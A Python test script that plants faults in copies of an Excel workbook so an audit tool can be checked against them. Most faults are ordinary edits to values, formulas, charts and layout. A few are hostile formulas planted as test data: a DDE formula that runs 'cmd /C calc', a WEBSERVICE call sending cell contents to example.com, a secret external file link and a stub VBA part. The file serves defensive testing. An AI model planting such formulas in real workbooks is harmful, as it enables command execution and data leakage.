"""A corpus of faults planted in a recalculated book, the way Excel would leave them (issue 10).

Each fault edits the XML of a copy of the book — a cached value, a formula, a label, a defined
name, a chart series, a row's ``hidden`` attribute, a sheet renamed with every reference updated,
a part added or removed — and names the finding kind the audit must report. No recalculation:
the cached values stay what the last calculation left, as in a book saved after the edit.

    python tests/make_audit_faults.py BOOK OUT_DIR      # writes OUT_DIR/<name>.xlsx and faults.json

``faults(lay)`` lists them (:class:`Fault`: name, kind, edit); ``plant(src, dst, fault)`` writes one.
"""

from __future__ import annotations

import json
import re
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from iiecon_xl.xlsx import a1
from iiecon_xl.xlsx.ooxml import sheet_parts
from iiecon_xl.xlsx.xmltext import escape

_KEEP = object()


#: (path, size, mtime) → (parts, sheet parts) of a source book, unzipped once per test session
_SOURCES: dict = {}


def _source(src: Path) -> tuple[dict, dict]:
    st = src.stat()
    key = (str(src.resolve()), st.st_size, st.st_mtime_ns)
    if key not in _SOURCES:
        with zipfile.ZipFile(src) as zf:
            _SOURCES[key] = ({n: zf.read(n) for n in zf.namelist()}, sheet_parts(src))
    return _SOURCES[key]


class Package:
    """The parts of an .xlsx in memory, with the edits the faults need.

    The source is unzipped once (:func:`_source`); a package starts as a copy of its part
    table (the bytes shared, not copied), a fault replaces the parts it edits, and
    :meth:`save` writes every member stored (no deflate: the unchanged members are copied
    as bytes, the book stays a sound .xlsx)."""

    def __init__(self, src: Path):
        parts, sheets = _source(Path(src))
        self.parts = dict(parts)
        self.sheet_part = dict(sheets)

    def text(self, part: str) -> str:
        return self.parts[part].decode("utf-8")

    def put(self, part: str, text: str) -> None:
        self.parts[part] = text.encode("utf-8")

    def sub(self, part: str, old: str, new: str, count: int = 1) -> None:
        text = self.text(part)
        assert old in text, (part, old)
        self.put(part, text.replace(old, new, count))

    def save(self, dst: Path) -> None:
        with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zf:
            for n, data in self.parts.items():
                zf.writestr(n, data)

    # ----------------------------------------------------------------- cells
    def _cell_re(self, cell: str) -> re.Pattern:
        return re.compile(rf'<c r="{cell}"(?=[\s/>])([^>]*?)(?:/>|>(.*?)</c>)', re.S)

    def cell(self, sheet: str, cell: str, *, value=_KEEP, formula=_KEEP) -> None:
        """Set a cell's cached value and/or formula (None: remove); create it when absent."""
        part = self.sheet_part[sheet]
        xml = self.text(part)
        m = self._cell_re(cell).search(xml)
        old_f, old_v, style = None, None, ""
        if m:
            sm = re.search(r'\bs="(\d+)"', m.group(1))
            style = f' s="{sm.group(1)}"' if sm else ""
            inner = m.group(2) or ""
            fm = re.search(r"<f(?:\s[^>]*)?>(.*?)</f>", inner, re.S)
            old_f = fm.group(0) if fm else None
            vm = re.search(r"<v>(.*?)</v>", inner, re.S)
            tm = re.search(r'\bt="(\w+)"', m.group(1))
            old_v = (tm.group(1) if tm else None, vm.group(1) if vm else None)
        f_xml = old_f if formula is _KEEP else (None if formula is None else f"<f>{escape(formula.lstrip('='))}</f>")
        has_f = f_xml is not None
        if value is _KEEP:
            t, v = old_v if old_v else (None, None)
            if t == "str" and not has_f:  # a formula's text result left as a constant: an inline string
                body, t = f"<is><t>{v}</t></is>", "inlineStr"
            else:
                body = "" if v is None else f"<v>{v}</v>"
        elif value is None:
            t, body = None, ""
        elif isinstance(value, bool):
            t, body = "b", f"<v>{int(value)}</v>"
        elif isinstance(value, (int, float)):
            t, body = None, f"<v>{value!r}</v>"
        elif isinstance(value, str) and value.startswith("#"):
            t, body = "e", f"<v>{escape(value)}</v>"
        elif has_f:
            t, body = "str", f"<v>{escape(value)}</v>"
        else:
            t, body = "inlineStr", f"<is><t>{escape(value)}</t></is>"
        tattr = f' t="{t}"' if t else ""
        new = f'<c r="{cell}"{style}{tattr}>{f_xml or ""}{body}</c>'
        if m:
            xml = xml[:m.start()] + new + xml[m.end():]
        else:
            xml = self._insert(xml, cell, new)
        self.put(part, xml)

    def _insert(self, xml: str, cell: str, new: str) -> str:
        r, c = a1.parse_cell(cell)
        rm = re.search(rf'<row r="{r + 1}"[^>]*?(?:/>|>(.*?)</row>)', xml, re.S)
        if rm is None:
            for m in re.finditer(r'<row r="(\d+)"', xml):
                if int(m.group(1)) > r + 1:
                    return xml[:m.start()] + f'<row r="{r + 1}">{new}</row>' + xml[m.start():]
            end = xml.index("</sheetData>")
            return xml[:end] + f'<row r="{r + 1}">{new}</row>' + xml[end:]
        if rm.group(1) is None:  # <row .../>
            return xml[:rm.start()] + rm.group(0)[:-2] + f">{new}</row>" + xml[rm.end():]
        start = rm.start(1)
        for cm in re.finditer(r'<c r="([A-Z]+)\d+"', rm.group(1)):
            if a1.col_index(cm.group(1)) > c:
                pos = start + cm.start()
                return xml[:pos] + new + xml[pos:]
        pos = rm.end(1)
        return xml[:pos] + new + xml[pos:]

    def cached(self, sheet: str, cell: str):
        m = self._cell_re(cell).search(self.text(self.sheet_part[sheet]))
        vm = re.search(r"<v>(.*?)</v>", m.group(2) or "")
        return float(vm.group(1))

    # ----------------------------------------------------------------- book level
    def everywhere(self, old: str, new: str) -> None:
        """Replace text in every XML part (a rename with references updated)."""
        needle = old.encode("utf-8")
        for n in list(self.parts):
            if n.endswith((".xml", ".rels")) and needle in self.parts[n]:
                self.put(n, self.text(n).replace(old, new))

    def name(self, name: str, target: str) -> None:
        wb = self.text("xl/workbook.xml")
        wb, k = re.subn(rf'(<definedName name="{name}"[^>]*>)[^<]*(</definedName>)',
                        lambda m: m.group(1) + escape(target) + m.group(2), wb)
        assert k == 1, name
        self.put("xl/workbook.xml", wb)

    def sheet_attr(self, sheet: str, attr: str) -> None:
        self.sub("xl/workbook.xml", f'<sheet name="{escape(sheet)}"', f'<sheet name="{escape(sheet)}" {attr}')

    def delete_sheet(self, sheet: str) -> None:
        """Delete a sheet as Excel does: its part gone, references to it become #REF!."""
        part = self.sheet_part[sheet]
        wb = self.text("xl/workbook.xml")
        m = re.search(rf'<sheet name="{re.escape(escape(sheet))}"[^>]*r:id="(\w+)"/>', wb)
        wb = wb.replace(m.group(0), "")
        rels = self.text("xl/_rels/workbook.xml.rels")
        rels = re.sub(rf'<Relationship Id="{m.group(1)}"[^>]*/>', "", rels)
        self.put("xl/_rels/workbook.xml.rels", rels)
        self.put("xl/workbook.xml", wb)
        ct = self.text("[Content_Types].xml")
        self.put("[Content_Types].xml", re.sub(rf'<Override PartName="/{part}"[^>]*/>', "", ct))
        del self.parts[part]
        self.parts.pop(part.replace("worksheets/", "worksheets/_rels/") + ".rels", None)
        quoted = escape(a1.quote_sheet(sheet))
        ref = re.compile(re.escape(quoted) + r"!\$?[A-Z]{1,3}\$?\d+(?::\$?[A-Z]{1,3}\$?\d+)?")
        for n in list(self.parts):
            if n.endswith(".xml"):
                t = self.text(n)
                if quoted + "!" in t:
                    self.put(n, ref.sub("#REF!", t))

    def add_part(self, part: str, data: bytes, content_type: str, rel_type: str | None = None,
                 target_mode: str = "") -> None:
        self.parts[part] = data
        self.sub("[Content_Types].xml", "</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>')
        if rel_type:
            self.sub("xl/_rels/workbook.xml.rels", "</Relationships>",
                     f'<Relationship Id="rIdFault" Type="{rel_type}" Target="{part[3:]}"{target_mode}/></Relationships>')


@dataclass(frozen=True)
class Fault:
    name: str
    kind: str                       # the finding kind the audit must report
    edit: Callable[[Package], None]


def plant(src, dst, fault: Fault) -> Path:
    """Write ``src`` with ``fault`` planted to ``dst`` (``src`` is never modified)."""
    pkg = Package(Path(src))
    fault.edit(pkg)
    pkg.save(Path(dst))
    return Path(dst)


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LINK_XML = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns='
             b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="' + _REL.encode() +
             b'"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
             b'</externalLink>')
_LINK_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
              b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="' + _REL.encode() +
              b'/externalLinkPath" Target="file:///C:/secret/data.xlsx" TargetMode="External"/></Relationships>')


def _external_link(p: Package) -> None:
    p.add_part("xl/externalLinks/externalLink1.xml", _LINK_XML,
               "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
               _REL + "/externalLink")
    p.parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = _LINK_RELS
    p.sub("xl/workbook.xml", "</sheets>", '</sheets><externalReferences><externalReference r:id="rIdFault"/>'
          "</externalReferences>")


def _vba(p: Package) -> None:
    p.add_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 508, "application/vnd.ms-office.vbaProject",
               "http://schemas.microsoft.com/office/2006/relationships/vbaProject")


def _delete_row(p: Package, sheet: str, row: int) -> None:
    """Delete row ``row`` (0-based): its cells gone, the rows below move up one."""
    part = p.sheet_part[sheet]
    xml = p.text(part)
    xml = re.sub(rf'<row r="{row + 1}"[^>]*?(?:/>|>.*?</row>)', "", xml, count=1, flags=re.S)

    def up(m):
        r = int(m.group(2))
        return f'{m.group(1)}{r - 1 if r > row + 1 else r}"'
    xml = re.sub(r'(<row r=")(\d+)"', up, xml)
    xml = re.sub(r'(<c r="[A-Z]+)(\d+)"', up, xml)
    p.put(part, xml)


def faults(lay) -> list[Fault]:
    """Every planted fault for a book of layout ``lay``, with the kind the audit must report."""
    from iiecon_xl.workbook import layout as L

    nat, sec, prov, cit = lay.national, lay.sections, lay.provinces, lay.cities
    sc, pc, ck = lay.sector_calc, lay.section_calc, lay.checks
    out: list[Fault] = []

    def add(name, kind, edit):
        out.append(Fault(name, kind, edit))

    def scaled(sheet, cell, factor=1.01):
        return lambda p: p.cell(sheet, cell, value=p.cached(sheet, cell) * factor)

    # cached value changed while the formula stayed (report, calc, spills, sorted lists, Table 1)
    summary_row = nat.span_growth_row
    for nm, sheet, cell in (
            ("span_growth", L.R_NATIONAL, nat.cell(summary_row, "value")),
            ("cagr", L.R_NATIONAL, nat.cell(nat.cagr_row, "value")),
            ("national_core", L.R_NATIONAL, nat.cell(nat.row(2), "core")),
            ("national_share", L.R_NATIONAL, nat.cell(nat.row(3), "share_of_gdp")),
            ("sorted_province_total", L.R_PROVINCES, prov.cell(prov.row(0), "sorted_total")),
            ("sorted_province_growth", L.R_PROVINCES, prov.cell(prov.row(4), "sorted_growth")),
            ("province_core_calc", L.PROVINCE_CALC, a1.cell_name(lay.province_calc.block_row("ind_core", 1),
                                                                 lay.province_calc.year_col(0))),
            ("sector_sum", L.SECTOR_CALC, "D" + str(sc.first_row + lay.dims.n + 1)),
            ("section_sumif", L.SECTION_CALC, "D5"),
            ("table1_count", L.R_CITIES, a1.cell_name(cit.tier_row(1), cit.col("tier_count"))),
            ("top_city_index", L.R_CITIES, a1.cell_name(cit.top_area[0] + 2, cit.top_area[3])),
            ("city_index", L.R_CITIES, cit.cell(cit.row(5), "index")),
            ("sections_total", L.R_SECTIONS, sec.cell(sec.block_row("total", 1), sec.year_col(1))),
            ("year_copy", L.R_NATIONAL, nat.cell(nat.row(1), 0))):
        add(f"cached_{nm}", "differs", scaled(sheet, cell, 1.01 if nm != "year_copy" else 1.0005))
    add("cached_sorted_province_name", "differs",
        lambda p: p.cell(L.R_PROVINCES, prov.cell(prov.row(0), "sorted_name"), value="西藏自治区"))
    # formulas replaced by their values (hard-typed), a check overwritten with OK
    for nm, sheet, cell in (("national_total", L.R_NATIONAL, nat.cell(nat.row(0), "total")),
                            ("province_total", L.R_PROVINCES, prov.cell(prov.row(3), "total")),
                            ("national_ratio", L.R_NATIONAL, nat.cell(nat.row(5), "penetration_core_ratio")),
                            ("sections_pen", L.R_SECTIONS, sec.cell(sec.block_row("pen", 2), sec.year_col(3))),
                            ("check_ok", L.CHECKS, ck.cell(ck.row(1), "result")),
                            ("check_ok_2", L.CHECKS, ck.cell(ck.row(3), "result"))):
        add(f"typed_{nm}", "hard-typed", lambda p, s=sheet, c=cell: p.cell(s, c, formula=None))
    add("check_reads_fail", "check-failed", lambda p: p.cell(L.CHECKS, ck.cell(ck.row(0), "result"), value="FAIL"))
    # formulas changed: a range shortened, a wrong year column, #REF!, a constant slipped in
    sum_cell = nat.cell(nat.row(0), "core")
    add("range_shortened", "formula-changed", lambda p: p.cell(L.R_NATIONAL, sum_cell, formula=re.sub(
        r"\$(\d+)\)$", lambda m: f"${int(m.group(1)) - 1})", _formula(p, L.R_NATIONAL, sum_cell))))
    add("wrong_year_column", "formula-changed", lambda p: p.cell(L.R_NATIONAL, nat.cell(nat.row(1), 0),
                                                                 formula=f"={lay.section_va.year_ref(2)}"))
    add("ref_error", "formula-changed", lambda p: p.cell(L.R_SECTIONS, sec.cell(sec.block_row("core", 0), sec.year_col(0)),
                                                         formula="=#REF!+1", value="#REF!"))
    add("times_constant", "formula-changed", lambda p: p.cell(L.R_NATIONAL, nat.cell(nat.row(4), "total"),
                                                              formula=_formula(p, L.R_NATIONAL, nat.cell(nat.row(4), "total")) + "*1.02"))
    add("error_value", "error", lambda p: p.cell(L.R_PROVINCES, prov.cell(prov.row(6), "total"), value="#VALUE!"))
    add("row_deleted", "formula-changed", lambda p: _delete_row(p, L.R_NATIONAL, nat.row(3)))
    add("row_deleted_calc", "formula-changed", lambda p: _delete_row(p, L.PROVINCE_CALC, 10))
    # inputs: a formula in an input cell, a parameter out of its allowed values
    add("input_formula", "input-formula", lambda p: p.cell(L.IO, lay.io.cell(lay.io.x_row, lay.io.sector_col(2)),
                                                           formula="=1+1", value=2))
    add("param_denominator", "out-of-range", lambda p: p.cell(L.PARAMS, a1.cell_name(*lay.params.value_cell("P_DENOM")),
                                                              value="magic"))
    add("param_operator", "out-of-range", lambda p: p.cell(L.PARAMS, a1.cell_name(*lay.params.value_cell("P_OPERATOR")),
                                                              value="by guess"))
    # labels and empty cells
    add("headers_swapped", "label", lambda p: _swap(p, L.R_NATIONAL, nat.cell(L.HEAD, "core"), nat.cell(L.HEAD, "total")))
    add("headers_swapped_prov", "label", lambda p: _swap(p, L.R_PROVINCES, prov.cell(L.HEAD, "core"),
                                                         prov.cell(L.HEAD, "gdp")))
    add("unit_label", "label", lambda p: p.cell(L.R_NATIONAL, a1.cell_name(L.NOTE_ROW, L.TITLE_COL), value="单位 万元"))
    add("title_changed", "label", lambda p: p.cell(L.R_CITIES, "A1", value="城市 Cities (draft)"))
    for nm, sheet, cell in (("sector_calc", L.SECTOR_CALC, a1.cell_name(sc.first_row + 2, 30)),
                            ("section_calc", L.SECTION_CALC, "Z40"), ("national", L.R_NATIONAL, "L6")):
        add(f"typed_in_empty_{nm}", "unexpected", lambda p, s=sheet, c=cell: p.cell(s, c, value=1234.5))
    add("text_in_empty_checks", "unexpected", lambda p: p.cell(L.CHECKS, "E4", value="looks fine"))
    # defined names
    for nm, target in (("NAT_CORE", nat.ref_area(nat.row(0), "core", nat.row(lay.dims.T - 1), "penetration")),
                       ("CALC_DIRECT", "'部门测算 Sector calc'!$H$5:$H$152"),
                       ("P_N", "'参数 Parameters'!$C$5"), ("PROV_TOTAL", "'分省 Provinces'!$E$4:$E$33")):
        add(f"name_{nm}", "name", lambda p, n=nm, t=target: p.name(n, t))
    # charts
    add("chart_series_row_off", "chart", lambda p: p.sub(_chart(p, 0), "$B$4:$B$11", "$B$5:$B$12"))
    add("chart_series_other_column", "chart", lambda p: p.sub(_chart(p, 0), "$C$4:$C$11", "$D$4:$D$11"))
    r1, c1, r2, _ = cit.top_area
    top, shifted = (a1.area(r, c1, r + r2 - r1, c1) for r in (r1, r1 + 1))
    add("chart_categories_off", "chart", lambda p: p.sub(_chart_with(p, top), top, shifted))
    # the province core chart's growth series on the sorted total growth (figure 7 with figure 6's growth)
    core_g, total_g = (prov.area(prov.row(0), col, prov.last_row, col)
                       for col in (prov.part_col("core", "growth"), "sorted_growth"))
    add("chart_province_growth_column", "chart", lambda p: p.sub(_chart_with(p, core_g), core_g, total_g))
    # the sections chart reading the year before the latest
    T = lay.dims.T
    last, prev = (sec.area(sec.block_row("pen"), sec.year_col(t), sec.block_row("pen") + sec.ITEMS - 1,
                           sec.year_col(t)) for t in (T - 1, T - 2))
    add("chart_sections_previous_year", "chart", lambda p: p.sub(_chart_with(p, last), last, prev))
    add("chart_moved", "chart", lambda p: _move_chart(p))
    add("chart_unreadable", "part", lambda p: p.put(_chart(p, 1), "<c:chartSpace><broken"))
    add("chart_part_missing", "part", lambda p: p.parts.pop(_chart(p, 1)))
    # hidden rows, columns, sheets
    add("hidden_row_report", "hidden", lambda p: p.sub(p.sheet_part[L.R_NATIONAL], f'<row r="{nat.row(2) + 1}"',
                                                       f'<row r="{nat.row(2) + 1}" hidden="1"'))
    add("hidden_row_calc", "hidden", lambda p: p.sub(p.sheet_part[L.SECTOR_CALC], '<row r="10"', '<row r="10" hidden="1"'))
    add("hidden_column", "hidden", lambda p: p.sub(p.sheet_part[L.R_PROVINCES], "<col ", '<col hidden="1" '))
    add("hidden_sheet", "hidden", lambda p: p.sheet_attr(L.CHECKS, 'state="hidden"'))
    # sheets: renamed (references updated), deleted, added, reordered
    add("renamed_report_sheet", "missing-sheet", lambda p: p.everywhere(escape("分省 Provinces"), escape("分省 Prov")))
    add("renamed_calc_sheet", "missing-sheet", lambda p: p.everywhere(escape("门类测算 Section calc"),
                                                                      escape("门类测算 Sect")))
    add("renamed_input_sheet", "missing-sheet", lambda p: p.everywhere(escape("宏观 Macro"), escape("宏观 M")))
    add("deleted_report_sheet", "missing-sheet", lambda p: p.delete_sheet(L.R_REGIONS))
    add("deleted_checks_sheet", "missing-sheet", lambda p: p.delete_sheet(L.CHECKS))
    add("sheet_order", "sheet-order", lambda p: _swap_sheets(p, L.R_REGIONS, L.R_CITIES))
    # formats
    add("conditional_format_removed", "format", lambda p: _drop_cf(p, L.R_SECTIONS))
    add("conditional_format_moved", "format", lambda p: p.sub(p.sheet_part[L.R_PROVINCES], 'sqref="E4:E34"', 'sqref="E4:E20"'))
    # print setup of a report sheet: portrait, no longer fitted to one page wide, header rows not repeated
    add("print_portrait", "print", lambda p: p.sub(p.sheet_part[L.R_NATIONAL], 'orientation="landscape"',
                                                   'orientation="portrait"'))
    add("print_not_fitted", "print", lambda p: p.sub(p.sheet_part[L.R_PROVINCES], '<pageSetUpPr fitToPage="1"/>',
                                                     '<pageSetUpPr/>'))
    add("print_titles_shortened", "print", lambda p: p.sub("xl/workbook.xml", escape(f"'{L.R_CITIES}'!$1:$3"),
                                                           escape(f"'{L.R_CITIES}'!$1:$1")))
    # outside reach
    add("dde", "dde", lambda p: p.cell(L.R_NATIONAL, "L8", formula="=cmd|' /C calc'!A0", value="#N/A"))
    add("dde_in_report_cell", "dde", lambda p: p.cell(L.R_NATIONAL, nat.cell(nat.row(5), "gdp"),
                                                      formula="=cmd|' /C calc'!A0", value=1.0))
    add("external_path", "external-link", lambda p: p.cell(L.R_PROVINCES, "T4", formula="='C:\\secret\\[data.xlsx]Sheet1'!A1",
                                                            value=1.0))
    add("external_link_part", "external-link", _external_link)
    add("webservice", "function", lambda p: p.cell(L.R_CITIES, "P4", formula='=WEBSERVICE("http://example.com/?"&A4)',
                                                   value="#VALUE!"))
    add("filterxml", "function", lambda p: p.cell(L.CHECKS, "F4", formula='=FILTERXML("<a/>","//a")', value="#VALUE!"))
    add("hyperlink", "function", lambda p: p.cell(L.GUIDE, "H4", formula='=HYPERLINK("http://example.com","x")', value="x"))
    add("unknown_function", "function", lambda p: p.cell(L.R_NATIONAL, nat.cell(nat.row(6), "share_of_gdp"),
                                                         formula=_formula(p, L.R_NATIONAL, nat.cell(nat.row(6), "share_of_gdp"))
                                                         .replace("=", "=INFO(\"x\")*0+", 1)))
    add("vba_project", "vba", _vba)
    add("layout_version", "layout-version", lambda p: p.everywhere(
        'name="iiecon_xl_layout"><vt:lpwstr>', 'name="iiecon_xl_layout"><vt:lpwstr>1.'))
    return out


def _formula(p: Package, sheet: str, cell: str) -> str:
    m = p._cell_re(cell).search(p.text(p.sheet_part[sheet]))
    fm = re.search(r"<f(?:\s[^>]*)?>(.*?)</f>", m.group(2) or "", re.S)
    from iiecon_xl.xlsx.xmltext import unescape
    return "=" + unescape(fm.group(1))


def _swap(p: Package, sheet: str, c1: str, c2: str) -> None:
    part = p.sheet_part[sheet]
    xml = p.text(part)
    m1, m2 = p._cell_re(c1).search(xml), p._cell_re(c2).search(xml)
    v1 = re.search(r"<v>(.*?)</v>", m1.group(0)).group(1)
    v2 = re.search(r"<v>(.*?)</v>", m2.group(0)).group(1)
    e1 = m1.group(0).replace(f"<v>{v1}</v>", f"<v>{v2}</v>")
    e2 = m2.group(0).replace(f"<v>{v2}</v>", f"<v>{v1}</v>")
    p.put(part, xml.replace(m1.group(0), e1).replace(m2.group(0), e2))


def _chart(p: Package, i: int) -> str:
    charts = sorted((n for n in p.parts if re.match(r"xl/charts/chart\d+\.xml$", n)),
                    key=lambda n: int(re.search(r"(\d+)", n.rsplit("/", 1)[1]).group(1)))
    return charts[i]


def _chart_with(p: Package, area: str) -> str:
    """The chart part whose series reference ``area`` ("$K$16:$K$115")."""
    return next(n for n in (_chart(p, i) for i in range(_n_charts(p))) if area in p.text(n))


def _n_charts(p: Package) -> int:
    return sum(1 for n in p.parts if re.match(r"xl/charts/chart\d+\.xml$", n))


def _move_chart(p: Package) -> None:
    d = sorted(n for n in p.parts if re.match(r"xl/drawings/drawing\d+\.xml$", n))[0]
    xml = p.text(d)
    p.put(d, re.sub(r"<xdr:row>(\d+)</xdr:row>", lambda m: f"<xdr:row>{int(m.group(1)) + 3}</xdr:row>", xml, count=1))


def _swap_sheets(p: Package, s1: str, s2: str) -> None:
    wb = p.text("xl/workbook.xml")
    e1 = re.search(rf'<sheet name="{re.escape(escape(s1))}"[^>]*/>', wb).group(0)
    e2 = re.search(rf'<sheet name="{re.escape(escape(s2))}"[^>]*/>', wb).group(0)
    p.put("xl/workbook.xml", wb.replace(e1, "\0").replace(e2, e1).replace("\0", e2))


def _drop_cf(p: Package, sheet: str) -> None:
    part = p.sheet_part[sheet]
    p.put(part, re.sub(r"<conditionalFormatting .*?</conditionalFormatting>", "", p.text(part), count=1, flags=re.S))


def main(argv=None) -> int:
    from iiecon_xl.workbook import layout as L
    from iiecon_xl.workbook.reader import read_inputs

    src, out = map(Path, (argv or sys.argv[1:])[:2])
    out.mkdir(parents=True, exist_ok=True)
    lay = L.Layout(L.dims_for(read_inputs(src)))
    listing = {}
    for f in faults(lay):
        plant(src, out / f"{f.name}.xlsx", f)
        listing[f.name] = f.kind
    (out / "faults.json").write_text(json.dumps(listing, ensure_ascii=False, indent=1), encoding="utf-8")
    print(f"{len(listing)} faults of {len(set(listing.values()))} kinds written to {out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
